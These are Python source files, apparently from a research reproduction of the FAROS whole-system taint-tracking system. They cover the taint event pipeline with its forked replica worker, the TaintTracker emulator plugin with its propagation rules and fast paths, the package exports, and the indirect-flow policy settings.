        # restarts at zero; restart the producer's ledger with it.
        self._shipped_records = 0
        if summary is None:
            self.worker_error = self.worker_error or "worker returned no summary"
        else:
            self.worker_summary = summary
            if summary["records"] != shipped:
                self.worker_error = (
                    f"worker consumed {summary['records']} records, "
                    f"producer shipped {shipped}"
                )
        return summary


class _PipelineWorker:
    """The per-guest asynchronous consumer: a forked replica sink.

    Reuses the triage engine's picklable-channel idiom: a fork-context
    process fed through a one-way pipe, with a shared consumed-record
    counter the producer polls for the lag gauge."""

    def __init__(self) -> None:
        import multiprocessing

        ctx = multiprocessing.get_context("fork")
        self._consumed = ctx.Value("q", 0, lock=False)
        self._parent_conn, child_conn = ctx.Pipe(duplex=True)
        self._proc = ctx.Process(
            target=_pipeline_worker_main,
            args=(child_conn, self._consumed),
            daemon=True,
        )
        self._proc.start()
        child_conn.close()

    def send(self, batch: EventBatch) -> None:
        self._parent_conn.send(
            ("batch", batch.version, batch.records.tobytes(), batch.refs)
        )

    def consumed(self) -> int:
        return self._consumed.value

    def finish(self, collect: bool = True, timeout: float = 30.0) -> Optional[dict]:
        summary = None
        try:
            self._parent_conn.send(("finish", collect))
            if self._parent_conn.poll(timeout):
                summary = self._parent_conn.recv()
        except (OSError, EOFError, BrokenPipeError):
            summary = None
        finally:
            try:
                self._parent_conn.close()
            except OSError:
                pass
            self._proc.join(timeout=5.0)
            if self._proc.is_alive():  # pragma: no cover - hang backstop
                self._proc.terminate()
                self._proc.join(timeout=5.0)
        return summary


def _pipeline_worker_main(conn, consumed) -> None:  # pragma: no cover - subprocess
    """Child entry: apply every shipped batch to a fresh replica tracker."""
    from dataclasses import astuple

    from repro.taint.intern import ProvInterner
    from repro.taint.tracker import TaintTracker

    replica = TaintTracker(interner=ProvInterner())
    records = 0
    while True:
        try:
            msg = conn.recv()
        except (EOFError, OSError):
            break
        if msg[0] == "finish":
            collect = msg[1]
            summary = {
                "records": records,
                "tainted_bytes": replica.shadow.tainted_bytes,
                "stats": astuple(replica.stats),
                "interner": (replica.interner.hits, replica.interner.misses),
            }
            if collect:
                summary["snapshot"] = replica.shadow.snapshot()
            try:
                conn.send(summary)
            except (OSError, BrokenPipeError):
                pass
            break
        _, version, raw, refs = msg
        recs = array("q")
        recs.frombytes(raw)
        replica.consume(EventBatch(recs, refs, version))
        records += len(recs) // RECORD_SLOTS
        consumed.value = records
    conn.close()


def register_pipeline_metrics(registry, pipeline: TaintPipeline) -> None:
    """Publish the pipeline's backpressure gauges into *registry*.

    ``taint.pipeline.lag_ticks`` is inherently nondeterministic in
    worker mode (it races the consumer process); determinism-sensitive
    comparisons must exclude it, like the ``translate.*`` gauges.
    """
    registry.gauge("taint.pipeline.depth", lambda: pipeline.depth)
    registry.gauge("taint.pipeline.drops", lambda: pipeline.drops)
    registry.gauge("taint.pipeline.dropped_records", lambda: pipeline.dropped_records)
    registry.gauge("taint.pipeline.overtainted_pages", lambda: pipeline.overtainted_pages)
    registry.gauge("taint.pipeline.lag_ticks", lambda: pipeline.lag_records)
    registry.gauge("taint.pipeline.emitted_events", lambda: pipeline.emitted_events)
    registry.gauge("taint.pipeline.emitted_records", lambda: pipeline.emitted_records)
    registry.gauge("taint.pipeline.consumed_records", lambda: pipeline.consumed_records)
    registry.gauge("taint.pipeline.revalidations", lambda: pipeline.revalidations)


def deprecated_channel_method(replacement: str):
    """Decorator for the legacy per-channel tracker entry points.

    The wrapped method warns (the test suite promotes the warning to an
    error via ``filterwarnings``), then forwards to the pipeline so
    out-of-tree callers keep working.  The marker attribute tells
    :class:`~repro.emulator.plugins.PluginManager` not to wire the shim
    as a hook -- the auto-registered pipeline owns the channel hooks.
    """

    def decorate(fn):
        import functools

        @functools.wraps(fn)
        def shim(self, *args, **kwargs):
            warnings.warn(
                f"{type(self).__name__}.{fn.__name__} is deprecated; "
                f"use {replacement} (the TaintEvent/TaintSink API)",
                DeprecationWarning,
                stacklevel=2,
            )
            return fn(self, *args, **kwargs)

        shim.__deprecated_channel_shim__ = True
        return shim

    return decorate
