"""The whole-system taint tracker (the PANDA taint-core analog).

:class:`TaintTracker` is an emulator plugin that applies the Table I
propagation rules to every retired instruction, every kernel-mediated
physical copy, and every external write.  It also performs FAROS'
provenance enrichment: whenever a *tainted* byte is touched by a process
(instruction fetch, load, store, or a syscall the kernel executes on its
behalf), that process' tag is appended to the byte's chronology.

Detection plugins do not subclass the tracker; they register **load
listeners** via :meth:`add_load_listener`.  Listeners observe each
memory-reading instruction *with pre-propagation shadow state* -- the
provenance of the executed instruction's own bytes and of every byte it
reads -- which is exactly the view FAROS' tag-confluence invariant needs.
Listeners are only invoked for instructions that touch at least one
dirty shadow page or run on a thread holding taint: an instruction whose
every input is provably untainted cannot contribute to any confluence
verdict, so the fast path skips it (see below).

Fast path (the paper's §V-A overhead attack, reproduced):

* **machine-level gating** -- while the system holds no taint at all
  (before the first netflow byte arrives), :meth:`wants_insn_effects`
  answers False and the machine runs its uninstrumented CPU loop,
  reporting retirements in bulk via :meth:`on_insns_skipped`;
* **per-instruction all-clean exit** -- once taint exists somewhere,
  each retired instruction first checks that its thread's register bank
  is clean and that none of its fetch/read/write bytes land on a dirty
  shadow page (one probe per 4 KiB page).  If so, propagation is the
  identity and the instruction retires on the fast path;
* **interned provenance** -- the slow path computes unions/appends
  through a :class:`~repro.taint.intern.ProvInterner`, so repeated
  propagation of the same lists costs dict probes, not allocations.

The reference implementation without any of this lives in
:mod:`repro.taint.reference`; ``tests/taint/test_differential.py`` holds
the two bit-identical.
"""

from __future__ import annotations

from dataclasses import dataclass, field
from typing import Callable, Dict, List, Optional, Sequence, Tuple

from repro.emulator.plugins import Plugin
from repro.faults.errors import TaintBudgetExceeded
from repro.isa.cpu import InstructionEffects, MemoryAccess
from repro.isa.instructions import IMM_ALU_OPS, Op, REG_ALU_OPS
from repro.isa.memory import PAGE_SHIFT, PAGE_SIZE
from repro.isa.registers import Reg
from repro.taint.intern import GLOBAL_INTERNER, ProvInterner
from repro.taint.pipeline import (
    EV_APPEND,
    EV_CLEAR,
    EV_COPY,
    EV_FREE,
    EV_OVERTAINT,
    EV_OVERTAINT_COPY,
    EV_WRITE,
    FLAG_LAST,
    KIND_MASK,
    RECORD_SLOTS,
    EventBatch,
    TaintPipeline,
    check_protocol,
    deprecated_channel_method,
    register_pipeline_metrics,
)
from repro.taint.policy import TaintPolicy
from repro.taint.provenance import EMPTY
from repro.taint.shadow import ShadowBank, ShadowMemory
from repro.taint.tags import Tag, TagStore

Prov = Tuple[Tag, ...]


@dataclass
class LoadObservation:
    """What a load listener sees for one memory-reading instruction."""

    thread: object
    fx: InstructionEffects
    #: Union of the provenance of the 8 fetched instruction bytes
    #: (including the just-appended executing-process tag).
    insn_prov: Prov
    #: One ``(access, prov)`` pair per memory read the instruction made.
    reads: List[Tuple[MemoryAccess, Prov]] = field(default_factory=list)


LoadListener = Callable[[object, LoadObservation], None]


@dataclass
class TrackerStats:
    """Counters for overhead/pressure reporting (Table V, E12).

    ``instructions`` counts every retirement the tracker accounted for;
    ``slow_retirements`` of them ran the full propagation path and
    ``fast_retirements`` took an all-clean exit (per-instruction page
    check, or whole uninstrumented slices while the system held no
    taint).  ``instructions == slow_retirements + fast_retirements``.
    """

    instructions: int = 0
    kernel_copies: int = 0
    external_writes: int = 0
    process_tag_appends: int = 0
    fast_retirements: int = 0
    slow_retirements: int = 0


def register_tracker_metrics(registry, tracker) -> None:
    """Expose *tracker*'s hot-path counters as pull-based gauges.

    Everything here is sampled at snapshot time, so instrumentation
    costs the per-instruction path nothing: the gauges read the counters
    the tracker already maintains (:class:`TrackerStats`, the interner's
    hit/miss totals, the shadow store's occupancy).

    Interner hits/misses are reported as **deltas from registration
    time**: trackers default to the process-wide
    :data:`~repro.taint.intern.GLOBAL_INTERNER`, whose absolute totals
    accumulate across every analysis the process has run, and a per-run
    metric must not inherit a previous sample's traffic.
    """
    stats = tracker.stats
    registry.gauge("taint.instructions", lambda: stats.instructions)
    registry.gauge("taint.fast_retirements", lambda: stats.fast_retirements)
    registry.gauge("taint.slow_retirements", lambda: stats.slow_retirements)
    registry.gauge("taint.kernel_copies", lambda: stats.kernel_copies)
    registry.gauge("taint.external_writes", lambda: stats.external_writes)
    registry.gauge("taint.process_tag_appends", lambda: stats.process_tag_appends)

    # The reference tracker has neither an interner nor a paged shadow;
    # only publish what this tracker actually maintains.
    interner = getattr(tracker, "interner", None)
    if interner is not None:
        hits0, misses0 = interner.hits, interner.misses

        def _hit_rate() -> float:
            hits = interner.hits - hits0
            total = hits + (interner.misses - misses0)
            return hits / total if total else 0.0

        registry.gauge("taint.interner.hits", lambda: interner.hits - hits0)
        registry.gauge("taint.interner.misses", lambda: interner.misses - misses0)
        registry.gauge("taint.interner.hit_rate", _hit_rate)
        registry.gauge(
            "taint.interner.canonical_lists",
            lambda: interner.cache_sizes()["canonical"],
        )

    shadow = tracker.shadow
    registry.gauge("taint.shadow.tainted_bytes", lambda: shadow.tainted_bytes)
    if hasattr(shadow, "dirty_page_count"):
        registry.gauge("taint.shadow.dirty_pages", lambda: shadow.dirty_page_count)
        registry.gauge(
            "taint.shadow.page_occupancy",
            lambda: (
                shadow.tainted_bytes / shadow.dirty_page_count
                if shadow.dirty_page_count
                else 0.0
            ),
        )
    if hasattr(shadow, "promotions"):
        # Two-representation shadow: array-vs-dict occupancy, the
        # promotion/demotion churn, and the flag-cache (summary word)
        # service rate.
        registry.gauge("taint.shadow.array_pages", lambda: shadow.array_page_count)
        registry.gauge("taint.shadow.dict_pages", lambda: shadow.dict_page_count)
        registry.gauge("taint.shadow.promotions", lambda: shadow.promotions)
        registry.gauge("taint.shadow.demotions", lambda: shadow.demotions)
        registry.gauge("taint.shadow.flag_cache.hits", lambda: shadow.summary_hits)
        registry.gauge("taint.shadow.flag_cache.misses", lambda: shadow.summary_misses)

        def _flag_cache_hit_rate() -> float:
            total = shadow.summary_hits + shadow.summary_misses
            return shadow.summary_hits / total if total else 0.0

        registry.gauge("taint.shadow.flag_cache.hit_rate", _flag_cache_hit_rate)

    pipeline = getattr(tracker, "pipeline", None)
    if pipeline is not None:
        register_pipeline_metrics(registry, pipeline)


class TaintTracker(Plugin):
    """Byte-granular, whole-system DIFT with provenance lists."""

    def __init__(
        self,
        policy: Optional[TaintPolicy] = None,
        tags: Optional[TagStore] = None,
        interner: Optional[ProvInterner] = None,
        shadow_mode: str = "auto",
        taint_pipeline: Optional[str] = None,
    ) -> None:
        super().__init__()
        self.policy = policy or TaintPolicy()
        self.tags = tags or TagStore()
        if interner is None and self.policy.max_prov_nodes is not None:
            # A node budget must count only *this run's* provenance: the
            # process-wide GLOBAL_INTERNER accumulates across runs, which
            # would make the trip point depend on what ran before --
            # breaking the determinism contract faulted replays rely on.
            interner = ProvInterner()
        self.interner = interner if interner is not None else GLOBAL_INTERNER
        # ``shadow_mode`` selects the page-representation policy
        # ("auto" / "dict" / "array" / "mixed"); every mode is
        # semantically identical -- the representation-differential
        # matrix holds them bit-identical down to interner counters.
        self.shadow = ShadowMemory(self.interner, mode=shadow_mode)
        self._max_tainted_bytes = self.policy.max_tainted_bytes
        self._max_prov_nodes = self.policy.max_prov_nodes
        self.banks = ShadowBank()
        self.stats = TrackerStats()
        self._load_listeners: List[LoadListener] = []
        #: Per-thread pending control-dependency taint: tid -> [prov, remaining].
        self._pending_control: Dict[int, List] = {}
        #: Reusable per-slice context for the translated-tainted tier.
        self._block_ctx: Optional[BlockTaintContext] = None
        #: The channel-event transport feeding this tracker.  The plugin
        #: manager auto-registers it in front of the tracker, so machine
        #: channel events (external writes, kernel copies, frame frees)
        #: and FAROS' tag-insertion hooks flow through the versioned
        #: TaintEvent protocol into :meth:`consume` -- immediately in
        #: ``inline`` mode, at consistency barriers in ``batched`` and
        #: ``worker`` modes.
        self.pipeline = TaintPipeline(
            self,
            mode=taint_pipeline,
            max_queue_depth=self.policy.max_queue_depth,
        )

    # ------------------------------------------------------------------
    # wiring for detection plugins
    # ------------------------------------------------------------------

    def add_load_listener(self, listener: LoadListener) -> None:
        """Register *listener* to observe every memory-reading instruction."""
        self._load_listeners.append(listener)

    # ------------------------------------------------------------------
    # the TaintSink protocol: consumer-side event application
    # ------------------------------------------------------------------

    def resolve_actor_tag(self, actor) -> Optional[Tag]:
        """Mint the acting process' tag for a copy event, at emit time.

        Tag indices are assigned in mint order, so the pipeline resolves
        the actor *when the event is produced*; deferring the mint to
        consumption would reorder the tag store under batching and break
        provenance-serialisation identity with the inline transport.
        """
        if actor is None or not self.policy.process_tags_on_access:
            return None
        return self.tags.process_tag(actor.cr3)

    def consume(self, batch: EventBatch) -> None:
        """Apply one batch of packed channel events to shadow state.

        Bit-identical to the retired direct-call API: bulk shadow ops
        per contiguous run, per-*event* statistics and budget checks at
        each FLAG_LAST record (exactly where the old per-call bumps and
        checks sat), and the reference oracle's ``consume`` applies the
        same records byte-at-a-time -- the differential matrix holds the
        two together across every transport mode.
        """
        check_protocol(batch)
        recs = batch.records
        refs = batch.refs
        shadow = self.shadow
        stats = self.stats
        budgeted = self._max_tainted_bytes is not None or self._max_prov_nodes is not None
        copy_appends = 0
        i, n = 0, len(recs)
        while i < n:
            code = recs[i]
            kind = code & KIND_MASK
            a = recs[i + 1]
            b = recs[i + 2]
            if kind == EV_APPEND:
                shadow.append_range(a, b, refs[recs[i + 5]])
                if code & FLAG_LAST and budgeted:
                    self._check_budget()
            elif kind == EV_COPY:
                ref = recs[i + 5]
                copy_appends += shadow.copy_range(
                    a, b, recs[i + 3], refs[ref] if ref >= 0 else None
                )
                if code & FLAG_LAST:
                    stats.process_tag_appends += copy_appends
                    copy_appends = 0
                    stats.kernel_copies += 1
                    if budgeted:
                        self._check_budget()
            elif kind == EV_WRITE:
                shadow.clear_range(a, b)
                if code & FLAG_LAST:
                    stats.external_writes += 1
            elif kind == EV_CLEAR:
                shadow.clear_range(a, b)
            elif kind == EV_FREE:
                for frame in range(a, a + b):
                    shadow.clear_range(frame << PAGE_SHIFT, PAGE_SIZE)
            elif kind == EV_OVERTAINT:
                shadow.append_range(a, b, refs[recs[i + 5]])
                if code & FLAG_LAST and budgeted:
                    self._check_budget()
            elif kind == EV_OVERTAINT_COPY:
                # Soft-drop residue for a dropped copy: append the union
                # of the spanned source pages' provenance (plus the
                # actor tag) to the spanned destination pages.  A
                # superset of any per-byte copy result -- conservative.
                for tag in shadow.get_range(recs[i + 3], recs[i + 4]):
                    shadow.append_range(a, b, tag)
                ref = recs[i + 5]
                if ref >= 0:
                    shadow.append_range(a, b, refs[ref])
                if code & FLAG_LAST and budgeted:
                    self._check_budget()
            else:
                raise ValueError(f"unknown taint event kind {kind}")
            i += RECORD_SLOTS

    # ------------------------------------------------------------------
    # taint-source API (deprecated direct-call shims)
    # ------------------------------------------------------------------

    @deprecated_channel_method("TaintPipeline.taint")
    def taint_range(self, paddrs: Sequence[int], tag: Tag) -> None:
        """Deprecated: emit an append event via ``tracker.pipeline``."""
        self.pipeline.taint(paddrs, tag)
        self.pipeline.sync()

    def _check_budget(self) -> None:
        """Trip :class:`TaintBudgetExceeded` if a taint budget is blown.

        Checked per *batch* (taint seeding, kernel copy, slow-path
        instruction), never on the fast path -- the budgets guard
        state-space explosions, which only the slow path can cause.
        """
        limit = self._max_tainted_bytes
        if limit is not None:
            used = self.shadow.tainted_bytes
            if used > limit:
                raise TaintBudgetExceeded("tainted bytes", used, limit)
        limit = self._max_prov_nodes
        if limit is not None:
            used = self.interner.canonical_count
            if used > limit:
                raise TaintBudgetExceeded("provenance nodes", used, limit)

    def prov_at(self, paddr: int) -> Prov:
        self.pipeline.sync()
        return self.shadow.get(paddr)

    def prov_of_range(self, paddrs: Sequence[int]) -> Prov:
        self.pipeline.sync()
        return self.shadow.get_bytes(paddrs)

    @deprecated_channel_method("TaintPipeline.clear")
    def clear_range(self, paddrs: Sequence[int]) -> None:
        """Deprecated: emit a clear event via ``tracker.pipeline``."""
        self.pipeline.clear(paddrs)
        self.pipeline.sync()

    # ------------------------------------------------------------------
    # non-instruction data movement (deprecated direct-call shims)
    # ------------------------------------------------------------------
    #
    # The machine's physical channels now dispatch to the tracker's
    # auto-registered TaintPipeline (the shim marker removes these from
    # hook dispatch); the shims keep out-of-tree callers working, with
    # a warning the test suite promotes to an error.

    @deprecated_channel_method("TaintPipeline.phys_write")
    def on_phys_write(self, machine, paddrs, source: str) -> None:
        """Deprecated: emit a write event via ``tracker.pipeline``."""
        self.pipeline.phys_write(paddrs, source)
        self.pipeline.sync()

    @deprecated_channel_method("TaintPipeline.phys_copy")
    def on_phys_copy(self, machine, dst_paddrs, src_paddrs, actor=None) -> None:
        """Deprecated: emit a copy event via ``tracker.pipeline``."""
        self.pipeline.phys_copy(dst_paddrs, src_paddrs, self.resolve_actor_tag(actor))
        self.pipeline.sync()

    @deprecated_channel_method("TaintPipeline.frames_freed")
    def on_frames_freed(self, machine, frames) -> None:
        """Deprecated: emit a free event via ``tracker.pipeline``."""
        self.pipeline.frames_freed(frames)
        self.pipeline.sync()

    def on_process_exit(self, machine, process, status) -> None:
        for thread in process.threads:
            self.banks.drop_thread(thread.tid)
            self._pending_control.pop(thread.tid, None)

    # ------------------------------------------------------------------
    # instrumentation gating (machine-level fast path)
    # ------------------------------------------------------------------

    def wants_insn_effects(self) -> bool:
        """Per-instruction effects are only needed once taint exists.

        Mirrors the paper's optimisation of enabling heavy tracking only
        when the first netflow byte arrives: with no taint anywhere --
        shadow memory, register banks, pending control windows --
        propagation of every instruction is the identity, so the machine
        may run its uninstrumented loop.  The machine re-asks after
        every syscall, which is the only in-slice path through which
        taint can appear (packet delivery, file reads, remote writes).
        """
        return (
            self.shadow.tainted_bytes > 0
            or bool(self._pending_control)
            or self.banks.any_tainted()
        )

    def on_insns_skipped(self, machine, thread, count: int) -> None:
        """*count* instructions retired while gating had us dormant."""
        self.stats.instructions += count
        self.stats.fast_retirements += count

    # ------------------------------------------------------------------
    # the translated-tainted tier (fused block closures)
    # ------------------------------------------------------------------

    def block_taint_unit(self):
        """This tracker *is* a taint unit: its whole per-instruction need
        is Table I propagation, which the block translator can fuse into
        translated blocks (see :meth:`Plugin.block_taint_unit`)."""
        return self

    def block_context(self, machine, thread) -> "BlockTaintContext":
        """The per-slice context the fused taint closures execute against.

        One reusable object per tracker, rebound to the scheduled thread
        at every slice (and after every syscall); see
        :class:`BlockTaintContext` for the exactness contract.
        """
        ctx = self._block_ctx
        if ctx is None:
            ctx = self._block_ctx = BlockTaintContext(self)
        ctx.rebind(machine, thread)
        return ctx

    # ------------------------------------------------------------------
    # plugin callbacks: the per-instruction hot path
    # ------------------------------------------------------------------

    def on_insn_exec(self, machine, thread, fx: InstructionEffects) -> None:
        stats = self.stats
        stats.instructions += 1
        tid = thread.tid
        bank = self.banks.for_thread(tid)

        # All-clean fast exit: thread bank clean, no pending control
        # window, every *fetched byte* is clean (byte-precise -- code
        # sharing a dirty 4 KiB shadow page with tainted data still
        # qualifies), and no data byte lands on a dirty shadow page.
        # Then every propagation rule is the identity (sources untainted
        # => destinations untainted, and destinations were untainted
        # already), no process tags can attach, and no listener verdict
        # can change (listeners skipped here would only see all-empty
        # provenance).  Data accesses keep the cheaper page-granular
        # probe: their slow path is exact anyway, the fetch probe is the
        # one that decides whether *code* stays on the fast path.
        if bank.tainted == 0 and not bank.flags and tid not in self._pending_control:
            shadow = self.shadow
            if (
                shadow.bytes_clean(fx.fetch_paddrs)
                and (not fx.reads or all(shadow.pages_clean(a.paddrs) for a in fx.reads))
                and (not fx.writes or all(shadow.pages_clean(a.paddrs) for a in fx.writes))
            ):
                stats.fast_retirements += 1
                return

        stats.slow_retirements += 1
        policy = self.policy
        shadow = self.shadow
        interner = self.interner
        append = interner.append
        union = interner.union

        proc_tag: Optional[Tag] = None
        if policy.process_tags_on_access:
            proc_tag = self.tags.process_tag(thread.process.cr3)

        # 1. Fetch access: the executing process touches the instruction
        #    bytes; collect their provenance (the injected-code signal).
        insn_prov: Prov = EMPTY
        for paddr in fx.fetch_paddrs:
            prov = shadow.get(paddr)
            if prov:
                if proc_tag is not None:
                    new = append(prov, proc_tag)
                    if new is not prov:
                        shadow.set(paddr, new)
                        stats.process_tag_appends += 1
                        prov = new
                insn_prov = union(insn_prov, prov)

        # 2. Data reads: collect pre-propagation provenance; reading is
        #    also an access, so tainted source bytes get the process tag.
        read_provs: List[Prov] = []
        for access in fx.reads:
            prov = shadow.get_bytes(access.paddrs)
            if prov and proc_tag is not None:
                for paddr in access.paddrs:
                    byte_prov = shadow.get(paddr)
                    if byte_prov:
                        new = append(byte_prov, proc_tag)
                        if new is not byte_prov:
                            shadow.set(paddr, new)
                            stats.process_tag_appends += 1
                prov = append(prov, proc_tag)
            read_provs.append(prov)

        # 3. Detection listeners observe pre-propagation state.
        if self._load_listeners and fx.reads:
            observation = LoadObservation(
                thread=thread,
                fx=fx,
                insn_prov=insn_prov,
                reads=list(zip(fx.reads, read_provs)),
            )
            for listener in self._load_listeners:
                listener(machine, observation)

        # 4. Propagate per Table I.
        self._propagate(fx, bank, read_provs, proc_tag, tid)

        # 5. Control-dependency window bookkeeping.
        pending = self._pending_control.get(tid)
        if pending is not None:
            pending[1] -= 1
            if pending[1] <= 0:
                del self._pending_control[tid]
        if (
            policy.track_control_deps
            and fx.flags_read
            and bank.flags
        ):
            self._pending_control[tid] = [bank.flags, policy.control_dep_window]

        # 6. Taint-budget watchdog (slow path only; the fast exits above
        #    cannot grow shadow state or mint provenance lists).
        if self._max_tainted_bytes is not None or self._max_prov_nodes is not None:
            self._check_budget()

    # ------------------------------------------------------------------
    # propagation rules
    # ------------------------------------------------------------------

    def _propagate(
        self,
        fx: InstructionEffects,
        bank,
        read_provs: List[Prov],
        proc_tag: Optional[Tag],
        tid: int,
    ) -> None:
        insn = fx.insn
        op = insn.op
        policy = self.policy
        union = self.interner.union

        # Register-destination provenance, by opcode family.
        if op is Op.MOV:
            self._write_reg(bank, insn.rd, bank.get(insn.rs1), tid)
        elif op is Op.MOVI:
            self._write_reg(bank, insn.rd, EMPTY, tid)
        elif op in (Op.LD, Op.LDB, Op.POP):
            prov = read_provs[0] if read_provs else EMPTY
            if policy.track_address_deps and op is not Op.POP:
                prov = union(prov, bank.get(insn.rs1))
            self._write_reg(bank, insn.rd, prov, tid)
        elif op in (Op.ST, Op.STB, Op.PUSH):
            src_reg = insn.rs1 if op is Op.PUSH else insn.rs2
            prov = bank.get(src_reg)
            if policy.track_address_deps and op is not Op.PUSH:
                prov = union(prov, bank.get(insn.rs1))
            prov = self._with_control(tid, prov)
            if prov and proc_tag is not None:
                prov = self.interner.append(prov, proc_tag)
            for access in fx.writes:
                self.shadow.set_bytes(access.paddrs, prov)
        elif op in REG_ALU_OPS:
            if insn.rs1 == insn.rs2 and op in (Op.XOR, Op.SUB):
                # Architectural zeroing idiom: the result is a constant,
                # independent of the operand's value (Table I delete).
                self._write_reg(bank, insn.rd, EMPTY, tid)
            else:
                self._write_reg(
                    bank, insn.rd, union(bank.get(insn.rs1), bank.get(insn.rs2)), tid
                )
        elif op in IMM_ALU_OPS:
            self._write_reg(bank, insn.rd, bank.get(insn.rs1), tid)
        elif op is Op.CMP:
            bank.flags = union(bank.get(insn.rs1), bank.get(insn.rs2))
        elif op is Op.CMPI:
            bank.flags = bank.get(insn.rs1)
        elif op in (Op.CALL, Op.CALLR):
            # LR receives the (untainted) return address.
            bank.set(Reg.LR, EMPTY)
        # JMP/JMPR/RET/NOP/HLT/SYSCALL: no data movement.

    def _write_reg(self, bank, reg: Reg, prov: Prov, tid: int) -> None:
        bank.set(reg, self._with_control(tid, prov))

    def _with_control(self, tid: int, prov: Prov) -> Prov:
        """Union in this thread's pending control-dependency taint."""
        if not self.policy.track_control_deps:
            return prov
        pending = self._pending_control.get(tid)
        if pending is None:
            return prov
        return self.interner.union(prov, pending[0])


class BlockTaintContext:
    """Everything a fused taint closure needs, pre-bound per slice.

    The translated-tainted tier executes blocks of closures compiled by
    :mod:`repro.isa.translate`; each closure receives this context and
    must reproduce :meth:`TaintTracker.on_insn_exec` *exactly* -- same
    shadow mutations, same interner call sequence, same stats splits,
    same listener observations (``tests/taint/test_differential.py``
    enforces all four).  The context therefore exposes the tracker's own
    bound state (the live pending-control dict, the interner's union and
    append, the shadow page table for gate probes) rather than copies.

    ``get_proc_tag`` is **lazy** on purpose: the interpreter mints the
    executing process' tag at the first slow-path instruction, and tag
    indices are assigned in mint order, so minting eagerly at slice
    start would reorder the tag store whenever a slice turns out to be
    wholly fast-path -- breaking provenance-serialisation identity.
    """

    __slots__ = (
        "tracker",
        "machine",
        "thread",
        "tid",
        "bank",
        "shadow",
        "dirty_pages",
        "pending",
        "stats",
        "interner",
        "union",
        "append",
        "listeners",
        "track_address_deps",
        "track_control_deps",
        "control_dep_window",
        "budget_check",
        "_tags_on_access",
        "_proc_tag",
        "_proc_tag_ready",
    )

    def __init__(self, tracker: TaintTracker) -> None:
        self.tracker = tracker
        self.shadow = tracker.shadow
        #: The live shadow page table; ``number in dirty_pages`` is the
        #: per-access/per-block cleanliness probe (decision-identical to
        #: :meth:`~repro.taint.shadow.ShadowMemory.pages_clean`).
        self.dirty_pages = tracker.shadow._pages
        self.pending = tracker._pending_control
        self.stats = tracker.stats
        self.interner = tracker.interner
        self.union = tracker.interner.union
        self.append = tracker.interner.append
        self.listeners = tracker._load_listeners
        policy = tracker.policy
        self.track_address_deps = policy.track_address_deps
        self.track_control_deps = policy.track_control_deps
        self.control_dep_window = policy.control_dep_window
        self._tags_on_access = policy.process_tags_on_access
        self.budget_check = (
            tracker._check_budget if policy.has_taint_budget else None
        )
        self.machine = None
        self.thread = None
        self.tid = -1
        self.bank = None
        self._proc_tag: Optional[Tag] = None
        self._proc_tag_ready = False

    def rebind(self, machine, thread) -> None:
        """Point the context at the thread about to run."""
        self.machine = machine
        self.thread = thread
        self.tid = thread.tid
        self.bank = self.tracker.banks.for_thread(thread.tid)
        self._proc_tag = None
        self._proc_tag_ready = not self._tags_on_access

    def get_proc_tag(self) -> Optional[Tag]:
        """The executing process' tag, minted at first slow-path use."""
        if self._proc_tag_ready:
            return self._proc_tag
        tag = self.tracker.tags.process_tag(self.thread.process.cr3)
        self._proc_tag = tag
        self._proc_tag_ready = True
        return tag
