"""The DIFT core: tags, provenance, shadow state, and propagation.

This package implements the paper's taint machinery:

* :mod:`~repro.taint.tags` -- the four tag types (netflow, process, file,
  export-table), the 3-byte ``prov_tag`` encoding (Fig. 6), and the
  per-type hash maps (Fig. 5);
* :mod:`~repro.taint.provenance` -- ordered provenance lists (Fig. 4) and
  the copy/union/delete algebra (Table I);
* :mod:`~repro.taint.shadow` -- byte-granular shadow memory keyed on
  *physical* addresses (page-organised with per-page all-clean fast
  exits) plus per-thread shadow register banks;
* :mod:`~repro.taint.intern` -- the global provenance interner with
  memoised union/append (the allocation-free fast path);
* :mod:`~repro.taint.policy` -- the indirect-flow policy knobs that
  reproduce the under/overtainting dilemma (Figs. 1-2);
* :mod:`~repro.taint.tracker` -- the emulator plugin that applies the
  propagation rules to every retired instruction and every
  kernel-mediated copy (whole-system DIFT);
* :mod:`~repro.taint.reference` -- the kept pre-optimisation
  implementation, held bit-identical to the fast path by the
  differential harness in ``tests/taint/test_differential.py``.
"""

from repro.taint.intern import GLOBAL_INTERNER, ProvInterner
from repro.taint.policy import TaintPolicy
from repro.taint.provenance import (
    EMPTY,
    MAX_PROV_LEN,
    append_tag,
    delete,
    prov_copy,
    prov_union,
)
from repro.taint.reference import ReferenceShadowMemory, ReferenceTaintTracker
from repro.taint.shadow import (
    SHADOW_PAGE_SIZE,
    ShadowMemory,
    ShadowRegisters,
)
from repro.taint.tags import (
    FileTag,
    NetflowTag,
    Tag,
    TagSpaceExhausted,
    TagStore,
    TagType,
)
from repro.taint.tracker import TaintTracker

__all__ = [
    "EMPTY",
    "FileTag",
    "GLOBAL_INTERNER",
    "MAX_PROV_LEN",
    "NetflowTag",
    "ProvInterner",
    "ReferenceShadowMemory",
    "ReferenceTaintTracker",
    "SHADOW_PAGE_SIZE",
    "ShadowMemory",
    "ShadowRegisters",
    "Tag",
    "TagSpaceExhausted",
    "TagStore",
    "TagType",
    "TaintPolicy",
    "TaintTracker",
    "append_tag",
    "delete",
    "prov_copy",
    "prov_union",
]
