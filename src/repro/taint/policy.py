"""Indirect-flow policy knobs (the §III/§IV dilemma, Figs. 1-2).

Classic DIFT must choose how to treat *address* dependencies (a tainted
value indexes a lookup table -- Fig. 1) and *control* dependencies (a
tainted value steers a branch that writes constants -- Fig. 2):

* propagate neither -> **undertainting**: the Fig. 1/2 copies launder
  taint completely;
* propagate both -> **overtainting**: loop counters and flag registers
  spread taint until "every piece of data in the system is tagged".

FAROS' answer (§IV) is to do *neither* globally and instead define the
security policy over tag-type **confluence**; these knobs exist so the
E11 ablation can demonstrate both failure modes against the same
programs, and so the E12 extension can scope control-dependency
tracking narrowly.
"""

from __future__ import annotations

from dataclasses import dataclass


@dataclass
class TaintPolicy:
    """Configuration for :class:`~repro.taint.tracker.TaintTracker`."""

    #: Propagate through address dependencies: a load unions the address
    #: register's provenance into the loaded value (Fig. 1 handling).
    track_address_deps: bool = False

    #: Propagate through control dependencies: after a branch guarded by
    #: tainted flags, writes union in the flags' provenance for the next
    #: :attr:`control_dep_window` instructions (a bounded approximation
    #: of the post-dominator scope real systems cannot compute without
    #: static analysis -- the paper's core argument for why nobody
    #: handles this well).
    track_control_deps: bool = False

    #: How many instructions a tainted branch contaminates.
    control_dep_window: int = 8

    #: Append a process tag to a tainted byte whenever a process touches
    #: it (fetch, load, store, or syscall-driven copy).  This is FAROS'
    #: provenance enrichment; disabling it degrades the tracker to
    #: classic origin-only DIFT.
